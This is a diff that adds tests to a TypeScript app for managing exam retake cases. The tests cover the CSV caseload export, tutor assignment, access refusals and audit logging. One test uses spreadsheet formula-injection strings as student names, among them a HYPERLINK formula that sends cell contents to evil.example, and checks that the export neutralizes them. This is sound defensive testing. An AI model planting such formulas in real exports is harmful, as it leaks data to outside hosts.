@@ -7,8 +7,20 @@ import { action as queueAction, loader as queueLoader } from "../../app/routes/a
 import { action as newAttemptAction } from "../../app/routes/app/attempts/new";
 import { recordAttempt } from "../../app/domain/attempts/mutations.server";
 import { prisma } from "../../app/utils/db.server";
-import { call } from "../utils/route";
+import { CASELOAD_COLUMNS, CASELOAD_EXPORT } from "../../app/domain/cases/caseload";
+import { call, contextFor, ORIGIN } from "../utils/route";
 import { createFailedCase, createSchool, createSchoolWithCase, createStudent, createUser } from "../factories";
+
+/** Runs the CSV export as the given person (the response body is needed, so not through `call`). */
+async function exportCsv(userId: string, query = ""): Promise<Response> {
+  return (await exportLoader({
+    request: new Request(`${ORIGIN}/cases/export.csv${query}`),
+    context: await contextFor(userId),
+    params: {},
+  } as never)) as Response;
+}
+
+const ALL_EXPORT_HEADERS = CASELOAD_COLUMNS.flatMap((c) => [...CASELOAD_EXPORT[c.id].headers]);
 
 describe("intake queue", () => {
   it("lets exactly one of two tutors take a case at the same moment, and tells the other who took it", async () => {
@@ -138,11 +150,7 @@ describe("caseload scope", () => {
       await createFailedCase({ studentId: s.studentId });
     }
     const { parse } = await import("csv-parse/sync");
-    const response = (await exportLoader({
-      request: new Request("http://localhost:3000/cases/export.csv?sort=student&dir=asc"),
-      context: await (await import("../utils/route")).contextFor(advisor.id),
-      params: {},
-    } as never)) as Response;
+    const response = await exportCsv(advisor.id, "?sort=student&dir=asc");
     expect(response.status).toBe(200);
     expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
     const rows: Array<Record<string, string>> = parse(await response.text(), { columns: true });
@@ -298,5 +306,237 @@ describe("attempts on the case page", () => {
     expect(stale.status).toBe(409);
     const log = await prisma.activityLog.findMany({ where: { caseId, action: "case.status_changed" } });
     expect(log.map((l) => JSON.parse(l.after ?? "{}").status)).toContain("PLANNING");
+  });
+});
+
+describe("caseload export", () => {
+  it("answers an empty view with the header row only", async () => {
+    const school = await createSchool();
+    const advisor = await createUser({ schoolId: school.id, role: "ADVISOR" });
+    const response = await exportCsv(advisor.id, "?q=nobody-by-this-name");
+    expect(response.status).toBe(200);
+    const { parse } = await import("csv-parse/sync");
+    const rows: string[][] = parse(await response.text());
+    expect(rows).toEqual([ALL_EXPORT_HEADERS]);
+    // A tutor's export hides the tutor column by default; the header follows.
+    const tutor = await createUser({ schoolId: school.id, role: "TUTOR" });
+    const tutorRows: string[][] = parse(await (await exportCsv(tutor.id)).text());
+    expect(tutorRows).toEqual([ALL_EXPORT_HEADERS.filter((h) => h !== "Tutor")]);
+  });
+
+  it("neutralizes imported text a spreadsheet would run as a formula", async () => {
+    const school = await createSchool();
+    const advisor = await createUser({ schoolId: school.id, role: "ADVISOR" });
+    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+2", "-3+4", "@SUM(A1:A2)", "\tTabbed", "Plain Name"];
+    for (const name of names) {
+      const s = await createStudent(school.id, name);
+      await createFailedCase({ studentId: s.studentId });
+    }
+    const response = await exportCsv(advisor.id, "?sort=student&dir=asc");
+    expect(response.status).toBe(200);
+    const { parse } = await import("csv-parse/sync");
+    const rows: Array<Record<string, string>> = parse(await response.text(), { columns: true });
+    const exported = rows.map((r) => r.Student).sort();
+    expect(exported).toEqual(
+      ["'\tTabbed", "'+1+2", "'-3+4", '\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "'@SUM(A1:A2)", "Plain Name"].sort(),
+    );
+    // Numbers stay numbers.
+    expect(rows.every((r) => /^\d+$/.test(r["Attempts used"]))).toBe(true);
+  });
+
+  it("holds only the person's own cases: another school's tutor gets none, a student is refused", async () => {
+    const { caseId, tutor, student } = await createSchoolWithCase();
+    await prisma.retakeCase.update({ where: { id: caseId }, data: { tutorId: tutor.id } });
+    const studentName = (await prisma.user.findUniqueOrThrow({ where: { id: student.userId } })).name;
+    const elsewhere = await createSchoolWithCase();
+    await prisma.retakeCase.update({ where: { id: elsewhere.caseId }, data: { tutorId: elsewhere.tutor.id } });
+
+    const own = await (await exportCsv(tutor.id)).text();
+    expect(own).toContain(studentName);
+    const stranger = await exportCsv(elsewhere.tutor.id);
+    expect(stranger.status).toBe(200);
+    const text = await stranger.text();
+    expect(text).not.toContain(studentName);
+    expect(text).not.toContain(student.email);
+    const strangerOffice = await (await exportCsv(elsewhere.advisor.id)).text();
+    expect(strangerOffice).not.toContain(studentName);
+
+    const refused = await call(exportLoader, { userId: student.userId, path: "/cases/export.csv" });
+    expect(refused.status).toBe(403);
+  });
+});
+
+describe("assigning a tutor", () => {
+  const assignForm = (caseId: string, tutorId: string, version: number, reason = "Step 1 specialist") => ({
+    intent: "assign",
+    caseId,
+    tutorId,
+    reason,
+    expectedVersion: String(version),
+  });
+  const versionOf = async (caseId: string) => (await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } })).version;
+
+  it("refuses a deactivated tutor and another school's tutor as field errors that keep the values, on both pages", async () => {
+    const { caseId, advisor, tutor } = await createSchoolWithCase();
+    const elsewhere = await createSchoolWithCase();
+    await prisma.user.update({ where: { id: tutor.id }, data: { status: "DEACTIVATED" } });
+    const version = await versionOf(caseId);
+
+    for (const tutorId of [tutor.id, elsewhere.tutor.id]) {
+      const fromQueue = await call(queueAction, { userId: advisor.id, path: "/queue", form: assignForm(caseId, tutorId, version) });
+      expect(fromQueue.status).toBe(400);
+      expect(fromQueue.data.result.error.tutorId[0]).toMatch(/active tutor who serves this school/);
+      expect(fromQueue.data.result.initialValue).toMatchObject({ tutorId, reason: "Step 1 specialist" });
+      const fromOverview = await call(overviewAction, {
+        userId: advisor.id,
+        path: `/cases/${caseId}`,
+        params: { caseId },
+        form: assignForm(caseId, tutorId, version),
+      });
+      expect(fromOverview.status).toBe(400);
+      expect(fromOverview.data.result.error.tutorId[0]).toMatch(/active tutor who serves this school/);
+      expect(fromOverview.data.result.initialValue).toMatchObject({ tutorId, reason: "Step 1 specialist" });
+    }
+    const row = await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } });
+    expect([row.tutorId, row.version]).toEqual([null, version]);
+    expect(await prisma.caseAssignment.count({ where: { caseId } })).toBe(0);
+    expect(await prisma.activityLog.count({ where: { caseId, action: { in: ["case.assigned", "case.reassigned"] } } })).toBe(0);
+  });
+
+  it("refuses another school's office (queue and overview) and a tutor using the overview's assign", async () => {
+    const { caseId, tutor, otherTutor } = await createSchoolWithCase();
+    const elsewhere = await createSchoolWithCase();
+    await prisma.retakeCase.update({ where: { id: caseId }, data: { tutorId: tutor.id, version: { increment: 1 } } });
+    const version = await versionOf(caseId);
+    const form = assignForm(caseId, otherTutor.id, version);
+    const strangerQueue = await call(queueAction, { userId: elsewhere.advisor.id, path: "/queue", form });
+    expect(strangerQueue.status).toBe(403);
+    const strangerOverview = await call(overviewAction, { userId: elsewhere.admin.id, path: `/cases/${caseId}`, params: { caseId }, form });
+    expect(strangerOverview.status).toBe(403);
+    const byTutor = await call(overviewAction, { userId: tutor.id, path: `/cases/${caseId}`, params: { caseId }, form });
+    expect(byTutor.status).toBe(403);
+    const row = await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } });
+    expect([row.tutorId, row.version]).toEqual([tutor.id, version]);
+  });
+
+  it("refuses taking a closed case with a clear answer", async () => {
+    const { caseId, advisor, tutor } = await createSchoolWithCase();
+    const closed = await call(overviewAction, {
+      userId: advisor.id,
+      path: `/cases/${caseId}`,
+      params: { caseId },
+      form: { intent: "status", to: "CLOSED", outcome: "WITHDRAWN", expectedVersion: String(await versionOf(caseId)) },
+    });
+    expect(closed.status).toBe(302);
+    const take = await call(queueAction, { userId: tutor.id, path: "/queue", form: { intent: "take", caseId } });
+    expect(take.status).toBe(409);
+    expect(take.data.error).toBe("This case is closed.");
+    const assign = await call(queueAction, {
+      userId: advisor.id,
+      path: "/queue",
+      form: assignForm(caseId, tutor.id, await versionOf(caseId)),
+    });
+    expect(assign.status).toBe(409);
+    expect(assign.data.error).toBe("This case is closed.");
+    expect((await prisma.retakeCase.findUniqueOrThrow({ where: { id: caseId } })).tutorId).toBeNull();
+    expect(await prisma.caseAssignment.count({ where: { caseId } })).toBe(0);
+  });
+
+  it("logs taking, assigning and reassigning, with the reason kept out of the summary", async () => {
+    const taken = await createSchoolWithCase();
+    expect(
+      (await call(queueAction, { userId: taken.tutor.id, path: "/queue", form: { intent: "take", caseId: taken.caseId } })).status,
+    ).toBe(302);
+    const takeLog = await prisma.activityLog.findMany({ where: { caseId: taken.caseId, action: "case.taken" } });
+    expect(takeLog).toHaveLength(1);
+    expect([takeLog[0].actorId, takeLog[0].entity, JSON.parse(takeLog[0].after ?? "{}").tutorId]).toEqual([
+      taken.tutor.id,
+      "RetakeCase",
+      taken.tutor.id,
+    ]);
+
+    const { caseId, advisor, tutor, otherTutor } = await createSchoolWithCase();
+    const first = await call(queueAction, {
+      userId: advisor.id,
+      path: "/queue",
+      form: assignForm(caseId, tutor.id, await versionOf(caseId), "Step 1 specialist"),
+    });
+    expect(first.status).toBe(302);
+    const second = await call(overviewAction, {
+      userId: advisor.id,
+      path: `/cases/${caseId}`,
+      params: { caseId },
+      form: assignForm(caseId, otherTutor.id, await versionOf(caseId), "Workload rebalance"),
+    });
+    expect(second.status).toBe(302);
+    const log = await prisma.activityLog.findMany({
+      where: { caseId, action: { in: ["case.assigned", "case.reassigned"] } },
+      orderBy: { createdAt: "asc" },
+    });
+    expect(log.map((l) => [l.action, l.actorId, JSON.parse(l.after ?? "{}").tutorId, JSON.parse(l.after ?? "{}").reason])).toEqual([
+      ["case.assigned", advisor.id, tutor.id, "Step 1 specialist"],
+      ["case.reassigned", advisor.id, otherTutor.id, "Workload rebalance"],
+    ]);
+    expect(log[0].summary).toBe(`Assigned to ${tutor.name}`);
+    expect(log[1].summary).toBe(`Reassigned from ${tutor.name} to ${otherTutor.name}`);
+    // Assigning the tutor who already has the case is a field error, not a silent no-op.
+    const again = await call(overviewAction, {
+      userId: advisor.id,
+      path: `/cases/${caseId}`,
+      params: { caseId },
+      form: assignForm(caseId, otherTutor.id, await versionOf(caseId), "Again"),
+    });
+    expect(again.status).toBe(400);
+    expect(again.data.result.error.tutorId[0]).toMatch(/already assigned/);
+  });
+});
+
+describe("recording a result outside a case", () => {
+  const failure = (student: string) => ({ exam: "STEP1", takenOn: addDays(today(), -12), outcome: "FAIL", score: "", student });
+
+  it("refuses an unknown student and another school's student as a field error that keeps the values", async () => {
+    const { advisor } = await createSchoolWithCase();
+    const elsewhere = await createSchoolWithCase();
+    for (const key of ["nobody@example.edu", elsewhere.student.email]) {
+      const refused = await call(newAttemptAction, { userId: advisor.id, path: "/attempts/new", form: failure(key) });
+      expect(refused.status).toBe(400);
+      expect(refused.data.result.error.student).toEqual(["No student of your school has that email or student number."]);
+      expect(refused.data.result.initialValue).toMatchObject({ student: key, exam: "STEP1", outcome: "FAIL" });
+    }
+    expect(await prisma.examAttempt.count({ where: { studentId: elsewhere.student.studentId } })).toBe(1);
+  });
+
+  it("refuses a tutor", async () => {
+    const { tutor, student } = await createSchoolWithCase();
+    const refused = await call(newAttemptAction, { userId: tutor.id, path: "/attempts/new", form: failure(student.email) });
+    expect(refused.status).toBe(403);
+    expect(await prisma.examAttempt.count({ where: { studentId: student.studentId } })).toBe(1);
+  });
+
+  it("finds the student by student number or email (any case) and logs the attempt and the opened case", async () => {
+    const school = await createSchool();
+    const advisor = await createUser({ schoolId: school.id, role: "ADVISOR" });
+    const s = await createStudent(school.id);
+    await prisma.studentProfile.update({ where: { id: s.studentId }, data: { externalId: `SN-${s.studentId}` } });
+    const recorded = await call(newAttemptAction, { userId: advisor.id, path: "/attempts/new", form: failure(`SN-${s.studentId}`) });
+    expect(recorded.status).toBe(302);
+    const opened = await prisma.retakeCase.findFirstOrThrow({ where: { studentId: s.studentId } });
+    expect(recorded.location).toBe(`/cases/${opened.id}`);
+    const attempt = await prisma.examAttempt.findFirstOrThrow({ where: { studentId: s.studentId } });
+    const log = await prisma.activityLog.findMany({ where: { schoolId: school.id, action: { in: ["attempt.recorded", "case.opened"] } } });
+    expect(log.map((l) => [l.action, l.entity, l.entityId, l.caseId, l.actorId]).sort()).toEqual(
+      [
+        ["attempt.recorded", "ExamAttempt", attempt.id, opened.id, advisor.id],
+        ["case.opened", "RetakeCase", opened.id, opened.id, advisor.id],
+      ].sort(),
+    );
+
+    const byEmail = await call(newAttemptAction, {
+      userId: advisor.id,
+      path: "/attempts/new",
+      form: { ...failure(s.email.toUpperCase()), exam: "STEP2_CK", score: "205" },
+    });
+    expect(byEmail.status).toBe(302);
+    expect(await prisma.examAttempt.count({ where: { studentId: s.studentId } })).toBe(2);
   });
 });
